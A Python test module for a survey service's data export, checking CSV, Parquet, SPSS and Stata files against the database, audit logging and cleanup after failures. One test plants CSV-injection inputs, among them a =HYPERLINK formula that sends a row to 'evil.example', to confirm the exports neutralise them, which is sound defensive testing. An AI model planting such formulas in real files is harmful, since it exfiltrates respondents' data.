"""`sammen export data` on the demo evaluation (seed 1, 8000 responses, loaded once for this
module): the files an R, Stata or SPSS user receives, opened with the tools they would
use (pandas, pyarrow, pyreadstat) and checked against the database: the same rows and
values in every format, variable and value labels in .sav and .dta, wide and long
telling the same story, free text only on request, every export audited, and a failed
export leaving nothing behind."""

from __future__ import annotations

import errno
import io
import os
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pyreadstat
import pytest
from litestar.testing import AsyncTestClient

from service import db
from service.admin import access
from service.admin.model import NewKey
from service.analysis import data
from service.app import create_app
from service.exports import datafile_writers, datafiles
from service.files import FileProblem
from tests.support.cli import sammen


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("datafiles")


@pytest.fixture(scope="module")
async def tidy(demo, pool) -> pd.DataFrame:
    async with pool.acquire() as conn:
        return await data.tidy(conn, demo)


@pytest.fixture(scope="module")
async def exported(demo, pool, folder) -> dict[tuple[str, bool], Path]:
    """Every format, long and wide, without free text (8 files, each with its codebook)."""
    out: dict[tuple[str, bool], Path] = {}
    async with pool.acquire() as conn:
        for fmt in ("csv", "parquet", "sav", "dta"):
            for wide in (False, True):
                (folder / fmt).mkdir(exist_ok=True)
                path = folder / fmt / f"svar_{'bred' if wide else 'lang'}.{fmt}"
                made = await datafiles.export_data(conn, demo, path, fmt=fmt, wide=wide)  # type: ignore[arg-type]
                assert made.bounded and Path(made.out) == path
                out[(fmt, wide)] = path
    return out


def _read(path: Path) -> pd.DataFrame:
    if path.suffix == ".csv":
        return pd.read_csv(path, low_memory=False)
    if path.suffix == ".parquet":
        return pd.read_parquet(path)
    reader = pyreadstat.read_sav if path.suffix == ".sav" else pyreadstat.read_dta
    return reader(str(path), apply_value_formats=True, formats_as_category=False)[0]


def test_long_files_have_the_tidy_rows_and_values_in_every_format(exported, tidy):
    """The long file is the tidy export's rows, in CSV, Parquet, SPSS and Stata alike:
    the same responses, items and values cell by cell (SPSS and Stata see categories
    through their value labels)."""
    key = ["response_id", "item_id", "dimension", "rated_role", "choice"]
    expected = tidy.assign(dimension=tidy["dimension"].fillna(""), rated_role=tidy["rated_role"].fillna(""),
                           choice=tidy["choice"].astype("Float64")).sort_values(key).reset_index(drop=True)
    for fmt in ("csv", "parquet", "sav", "dta"):
        got = _read(exported[(fmt, False)])
        assert len(got) == len(expected), fmt
        got = got.assign(dimension=got["dimension"].fillna("").astype(str),
                         rated_role=got["rated_role"].fillna("").astype(str),
                         choice=got["choice"].astype("Float64"),
                         response_id=got["response_id"].astype(int)).sort_values(key).reset_index(drop=True)
        if fmt in ("sav", "dta"):  # roles come back as their Danish labels
            from service.exports.labels import role_label
            expected_roles = expected["rated_role"].map(lambda k: role_label(k) if k else "")
        else:
            expected_roles = expected["rated_role"]
        assert list(got["item_id"]) == list(expected["item_id"]), fmt
        assert list(got["rated_role"]) == list(expected_roles), fmt
        for column in ("value", "value_coded"):
            np.testing.assert_array_equal(got[column].astype(float).to_numpy(), expected[column].astype(float),
                                          err_msg=f"{fmt} {column}")
        assert list(got["respondent_key"].replace("", None).fillna("-")) == list(
            expected["respondent_key"].fillna("-")), fmt
        assert list(got["unit"]) == list(expected["unit"]) and list(got["wave"]) == list(expected["wave"]), fmt


def test_spss_and_stata_files_carry_the_item_wording_and_the_answer_labels(exported, tidy):
    """Variable labels are the items' Danish wording, value labels the answer options'
    (1 = 'Helt uenig' …), 'ved ikke' is missing (SPSS: the user-missing code -1, Stata:
    .a), and the arm reads 'Indsats'/'Sammenligning'."""
    csv = pd.read_csv(exported[("csv", True)], low_memory=False)
    dont_know = next(c for c in csv.columns if csv[c].dtype.kind == "f" and (csv[c] == -1).any())
    for fmt in ("sav", "dta"):
        path = exported[(fmt, True)]
        reader = pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta
        frame, meta = reader(str(path))
        assert frame.shape == csv.shape and list(frame.columns) == list(csv.columns)
        labels = meta.column_names_to_labels
        assert labels["indflydelse_eget_liv"].startswith("Jeg har indflydelse") or labels["indflydelse_eget_liv"]
        values = meta.variable_value_labels["indflydelse_eget_liv"]
        assert values[1] == "Helt uenig" and values[5] == "Helt enig"
        assert meta.variable_value_labels["arm"] == {1: "Indsats", 2: "Sammenligning"}
        assert labels["arm"] == "Gruppe (indsats eller sammenligning)"
        if fmt == "sav":
            assert meta.variable_value_labels[dont_know][-1] == "Ved ikke"
        for column in ("indflydelse_eget_liv", "maal_meningsfulde", "response_id", "unit_id", dont_know):
            expected = csv[column].astype(float).where(csv[column] != -1)  # 'ved ikke' reads as missing
            np.testing.assert_array_equal(frame[column].astype(float).to_numpy(), expected.to_numpy(),
                                          err_msg=f"{fmt} {column}")
        assert (pd.to_datetime(frame["submitted_at"]).dt.floor("s")
                == pd.to_datetime(csv["submitted_at"]).dt.tz_localize(None).dt.floor("s")).all()
    book = pd.read_csv(exported[("sav", True)].with_name("svar_bred_codebook.csv"), keep_default_na=False)
    matrix = book[book["rated_role"] != ""]
    assert len(matrix) > 10 and set(matrix["item_id"]) == {"samarbejde"}
    assert set(tidy["item_id"]) - {"rolle", "kommentar", "til_sidst"} <= set(book["item_id"])


def test_wide_and_long_files_tell_the_same_answers(exported):
    """Every long row lands in its wide cell: value, -1 for 'ved ikke', 1 for a chosen
    option; a matrix cell in item__rated__dimension."""
    long = pd.read_parquet(exported[("parquet", False)])
    wide = pd.read_parquet(exported[("parquet", True)]).set_index("response_id")
    book = pd.read_csv(exported[("parquet", True)].with_name("svar_bred_codebook.csv"), keep_default_na=False,
                       dtype=str)
    items = book[book["item_id"] != ""]
    column = {(r.questionnaire_id, r.item_id, r.rated_role, r.dimension, r.choice): r.variable
              for r in items.itertuples()}
    long = long[long["item_type"].isin(
        ["agreement", "frequency", "scale_0_10", "single_choice", "yes_no", "matrix_dimension", "multiple_choice"])]
    assert len(long) > 100_000
    keys = zip(long["questionnaire_id"], long["item_id"], long["rated_role"].fillna(""), long["dimension"],
               long["choice"].map(lambda v: "" if pd.isna(v) else str(int(v))))
    names = [column[k] for k in keys]
    cell = np.where(long["dont_know"], -1, np.where(long["choice"].notna(), 1, long["value"].astype(float)))
    wide_values = wide.to_numpy(dtype=object)
    rows = wide.index.get_indexer(long["response_id"])
    cols = wide.columns.get_indexer(names)
    assert (rows >= 0).all() and (cols >= 0).all()
    np.testing.assert_array_equal(wide_values[rows, cols].astype(float), cell)
    filled = int(wide[items["variable"]].notna().to_numpy().sum())
    assert filled == len(long)  # and nothing else is in the wide item columns


async def test_free_text_only_with_the_flag(demo, pool, folder, exported):
    async with pool.acquire() as conn:
        texts = [r["text_value"] for r in await conn.fetch(
            "select distinct a.text_value from answer a join questionnaire_item qi"
            " using (questionnaire_version_id, item_id, dimension) where qi.item_type = 'free_text'")]
        assert texts
        for (fmt, wide), path in exported.items():
            raw = path.read_bytes()
            assert not any(t.encode() in raw for t in texts if len(t) > 12), (fmt, wide)
        for fmt in ("sav", "dta", "parquet"):
            (folder / f"fritekst_{fmt}").mkdir()
            path = folder / f"fritekst_{fmt}" / f"fritekst.{fmt}"
            made = await datafiles.export_data(conn, demo, path, fmt=fmt, wide=True, free_text=True)  # type: ignore
            assert made.free_text
            frame = _read(path)
            book = pd.read_csv(path.with_name("fritekst_codebook.csv"), keep_default_na=False, dtype=str)
            columns = list(book.loc[(book["kind"] == "text") & (book["item_id"] != ""), "variable"])
            assert columns
            found = frame[columns].replace("", None).stack().dropna()
            assert set(found) == set(texts) and len(found) == await conn.fetchval(
                "select count(*) from answer a join questionnaire_item qi"
                " using (questionnaire_version_id, item_id, dimension) where qi.item_type = 'free_text'")


async def test_every_export_is_in_the_audit_log(demo, pool, exported):
    async with pool.acquire() as conn:
        audited = {r["subject"]: r["counts"]["rows"] for r in await conn.fetch(
            "select subject, counts from audit_log where action = 'export' and actor = 'cli'")}
    assert audited[f"evaluation {demo} data (sav, wide)"] == 8000
    assert audited[f"evaluation {demo} data (csv, long)"] == len(_read(exported[("csv", False)]))
    assert {f"evaluation {demo} data ({f}, {s})" for f in ("csv", "parquet", "sav", "dta")
            for s in ("long", "wide")} <= set(audited)


async def test_small_blocks_give_the_same_file_as_one_block(demo, pool, folder, exported):
    """Streaming: read in 64 kB blocks (a response split across blocks is held back and
    completed), the wide Stata file is byte for byte the one made in one go, bar the
    header's time stamp."""
    path = folder / "smaa_blokke.dta"
    async with pool.acquire() as conn:
        await datafiles.export_data(conn, demo, path, fmt="dta", wide=True, block_bytes=64 << 10)
    one, many = exported[("dta", True)].read_bytes(), path.read_bytes()
    stamp = slice(one.index(b"<timestamp>"), one.index(b"</timestamp>"))
    assert len(one) == len(many) and one[:stamp.start] + one[stamp.stop:] == many[:stamp.start] + many[stamp.stop:]


async def test_a_failed_export_leaves_no_file_and_no_audit_row(demo, pool, tmp_path, monkeypatch):
    def broken(self, table):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(datafile_writers.StatSink, "write", broken)
    async with pool.acquire() as conn:
        before = await conn.fetchval("select count(*) from audit_log where action = 'export'")
        with pytest.raises(FileProblem, match="--out: cannot write .*No space left"):
            await datafiles.export_data(conn, demo, tmp_path / "svar.sav", fmt="sav", wide=True)
        assert await conn.fetchval("select count(*) from audit_log where action = 'export'") == before
    assert list(tmp_path.iterdir()) == []
    (tmp_path / "taget.csv").write_text("behold mig\n")
    async with pool.acquire() as conn:
        with pytest.raises(FileProblem, match="--out: .*exists"):
            await datafiles.export_data(conn, demo, tmp_path / "taget.csv")
    assert (tmp_path / "taget.csv").read_text() == "behold mig\n" and len(list(tmp_path.iterdir())) == 1


async def test_the_command_writes_stata_by_its_suffix(demo, settings, tmp_path):
    ran = await sammen(settings, "export", "data", "--evaluation", str(demo), "--out", str(tmp_path / "svar.dta"),
                       "--wide")
    assert ran.code == 0, ran.err
    assert ran.json()["format"] == "dta" and ran.json()["rows"] == 8000
    frame, meta = pyreadstat.read_dta(str(tmp_path / "svar.dta"))
    assert len(frame) == 8000 and meta.column_names_to_labels["wave"] == "Målingens navn"
    assert (tmp_path / "svar_codebook.csv").exists()


async def test_an_evaluator_downloads_spss_over_http_with_its_codebook_and_it_is_audited(demo, pool, settings):
    async with pool.acquire() as conn:
        organisation = await conn.fetchval("select organisation_id from evaluation where id = $1", demo)
        key = (await access.create_key(conn, NewKey(name="Evaluator", role="evaluator",
                                                    organisation_id=organisation, microdata=True))).key
    async with AsyncTestClient(create_app(settings)) as client:
        r = await client.get(f"/api/evaluations/{demo}/export/data/sav?wide=true",
                             headers={"Authorization": f"Bearer {key}"})
        assert r.status_code == 200, r.text
        assert (await client.get(f"/api/evaluations/{demo}/export/data/sav")).status_code == 401
        assert (await client.get(f"/api/evaluations/{demo}/export/data/xls",
                                 headers={"Authorization": f"Bearer {key}"})).status_code == 400
    archive = zipfile.ZipFile(io.BytesIO(r.content))
    names = sorted(archive.namelist())
    assert names == [f"evaluering-{demo}-bred.sav", f"evaluering-{demo}-bred_codebook.csv"]
    frame, meta = pyreadstat.read_sav(_extract(archive, names[0]))
    assert len(frame) == 8000 and meta.variable_value_labels["arm"] == {1: "Indsats", 2: "Sammenligning"}
    async with pool.acquire() as conn:
        entry = await conn.fetchrow("select actor, subject from audit_log where action = 'export' order by id desc")
    assert entry["subject"] == f"evaluation {demo} data (sav, wide)" and entry["actor"] != "cli"


def _extract(archive: zipfile.ZipFile, name: str) -> str:
    import tempfile

    folder = tempfile.mkdtemp()
    return archive.extract(name, folder)


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2,"se her")', "-2+3", "@SUM(A1:A9)", "+45 12 34 56 78",
            "\t=1+1"]
FREE_TEXTS = """
select a.response_id, a.item_id, a.dimension, v.questionnaire_id, a.text_value
  from answer a join questionnaire_item qi using (questionnaire_version_id, item_id, dimension)
  join questionnaire_version v on v.id = a.questionnaire_version_id
  join response r on r.id = a.response_id join wave w on w.id = r.wave_id
 where w.evaluation_id = $1 and qi.item_type = 'free_text'
 order by a.response_id, a.item_id
"""


async def test_free_text_a_spreadsheet_would_run_has_a_quote_in_front_in_csv_only(demo, pool, tmp_path):
    """OWASP "CSV Injection": a citizen's text beginning with =, +, -, @ or a tab opens
    in Excel as a formula (=HYPERLINK can send the row to another site). In CSV files,
    long and wide, such text has a ' in front and the codebook says so; every other text,
    and every text in Parquet, is as the citizen wrote it."""
    async with pool.acquire() as conn:
        picked = (await conn.fetch(FREE_TEXTS, demo))[:len(FORMULAS)]
        assert len(picked) == len(FORMULAS)
        change = "update answer set text_value = $1 where response_id = $2 and item_id = $3 and dimension = $4"
        try:
            for row, text in zip(picked, FORMULAS):
                await conn.execute(change, text, row["response_id"], row["item_id"], row["dimension"])
            stored = {(r["response_id"], r["item_id"]): (r["questionnaire_id"], r["text_value"])
                      for r in await conn.fetch(FREE_TEXTS, demo)}
            for fmt in ("csv", "parquet"):
                for shape in ("lang", "bred"):
                    await datafiles.export_data(conn, demo, tmp_path / f"{shape}_{fmt}.{fmt}", fmt=fmt,  # type: ignore
                                                wide=shape == "bred", free_text=True)
        finally:
            for row in picked:
                await conn.execute(change, row["text_value"], row["response_id"], row["item_id"], row["dimension"])

    def as_in_csv(text: str) -> str:
        return "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text

    def read(path: Path) -> pd.DataFrame:
        return pd.read_csv(path, dtype=str, keep_default_na=False) if path.suffix == ".csv" else pd.read_parquet(path)

    for fmt, written in (("csv", as_in_csv), ("parquet", lambda text: text)):
        long = read(tmp_path / f"lang_{fmt}.{fmt}")
        cells = long[long["item_id"].isin({item for _, item in stored}) & (long["text_value"].fillna("") != "")]
        found = {(int(r.response_id), r.item_id): r.text_value for r in cells.itertuples()}
        assert found == {key: written(text) for key, (_, text) in stored.items()}, fmt
        wide = read(tmp_path / f"bred_{fmt}.{fmt}")
        wide = wide.set_index(wide["response_id"].astype(int))
        book = read(tmp_path / f"bred_{fmt}_codebook.csv")
        variable = {(r.questionnaire_id, r.item_id): r.variable
                    for r in book[(book["kind"] == "text") & (book["item_id"] != "")].itertuples()}
        for (response, item), (questionnaire, text) in stored.items():
            assert wide.loc[response, variable[questionnaire, item]] == written(text), (fmt, response, item)
        label = read(tmp_path / f"lang_{fmt}_codebook.csv").set_index("variable").loc["text_value", "label_en"]
        assert ("(in CSV: ' before text that begins with = + - @" in label) == (fmt == "csv"), label
    hyperlink = read(tmp_path / "lang_csv.csv").set_index(["response_id", "item_id"]).loc[
        (str(picked[0]["response_id"]), picked[0]["item_id"]), "text_value"]
    assert hyperlink == "'" + FORMULAS[0]
    assert read(tmp_path / "lang_parquet.parquet").set_index(["response_id", "item_id"]).loc[
        (picked[0]["response_id"], picked[0]["item_id"]), "text_value"] == FORMULAS[0]


async def test_a_full_temporary_disk_is_reported_as_such_and_the_database_is_not_restarted(
        demo, pool, settings, monkeypatch):
    """No room for an export's temporary files (the folder, or the file in it) is a 503
    that says so, with Retry-After; not 'the database cannot be reached', and the embedded
    database is not restarted for it. Nothing is left in the temporary folder."""
    async with pool.acquire() as conn:
        organisation = await conn.fetchval("select organisation_id from evaluation where id = $1", demo)
        key = (await access.create_key(conn, NewKey(name="Evaluator", role="evaluator",
                                                    organisation_id=organisation, microdata=True))).key
    headers = {"Authorization": f"Bearer {key}"}
    restarts: list[object] = []
    monkeypatch.setattr(db, "revive_soon", restarts.append)

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    scratch = Path(tempfile.gettempdir())
    before = set(scratch.glob(f"sammen-export-{os.getpid()}-*"))
    async with AsyncTestClient(create_app(settings)) as client:
        answers = []
        with monkeypatch.context() as disk:
            disk.setattr(tempfile, "mkdtemp", full)
            answers.append(await client.get(f"/api/evaluations/{demo}/export/data/csv", headers=headers))
            answers.append(await client.get(f"/api/evaluations/{demo}/export/tidy.csv", headers=headers))
        with monkeypatch.context() as disk:
            disk.setattr(datafile_writers.CsvSink, "write", full)
            answers.append(await client.get(f"/api/evaluations/{demo}/export/data/csv?wide=true", headers=headers))
    for answer in answers:
        assert answer.status_code == 503, answer.text
        assert answer.json()["detail"] == "no space to prepare the export; try again later"
        assert int(answer.headers["retry-after"]) > 0
    assert restarts == []
    assert set(scratch.glob(f"sammen-export-{os.getpid()}-*")) <= before


async def test_scratch_folders_a_killed_process_left_are_removed_when_the_service_starts(settings):
    """A process killed while it prepared a download leaves its folder, with microdata,
    in the temporary folder; the next start removes it, and an old one named without a
    process id, but never a folder of a process that still runs."""
    stopped = subprocess.Popen([sys.executable, "-c", "pass"])
    stopped.wait()
    left = Path(tempfile.mkdtemp(prefix=f"sammen-export-{stopped.pid}-"))
    (left / "evaluering-1-lang.csv").write_text("respondent_key,text_value\nP-17,Jens fra 3. sal\n")
    old = Path(tempfile.mkdtemp(prefix="sammen-data-"))
    os.utime(old, (time.time() - 7200, time.time() - 7200))
    running = Path(tempfile.mkdtemp(prefix=f"sammen-data-{os.getpid()}-"))
    recent = Path(tempfile.mkdtemp(prefix="sammen-charts-"))
    try:
        async with AsyncTestClient(create_app(settings)):
            pass
        assert not left.exists() and not old.exists()
        assert running.exists() and recent.exists()
    finally:
        for folder in (left, old, running, recent):
            shutil.rmtree(folder, ignore_errors=True)


async def test_a_response_without_an_exported_cell_still_has_its_row_in_the_wide_file(demo, pool, tmp_path):
    """One row per response, also for one whose only answers are left out (here: none at
    all, as a paper form sent back empty would be). Last in this module: it adds a response."""
    async with pool.acquire() as conn:
        wave, unit, version = await conn.fetchrow(
            "select r.wave_id, r.unit_id, r.questionnaire_version_id from response r join wave w on w.id = r.wave_id"
            " where w.evaluation_id = $1 order by r.id limit 1", demo)
        empty = await conn.fetchval(
            "insert into response (submission_id, wave_id, unit_id, questionnaire_version_id, channel)"
            " values (gen_random_uuid(), $1, $2, $3, 'paper') returning id", wave, unit, version)
        made = await datafiles.export_data(conn, demo, tmp_path / "bred.parquet", fmt="parquet", wide=True)
    frame = pd.read_parquet(tmp_path / "bred.parquet")
    book = pd.read_csv(tmp_path / "bred_codebook.csv", keep_default_na=False, dtype=str)
    items = list(book.loc[book["item_id"] != "", "variable"])
    assert made.rows == len(frame) == 8001
    row = frame[frame["response_id"] == empty]
    assert len(row) == 1 and row[items].isna().all().all() and row["unit_id"].item() == unit
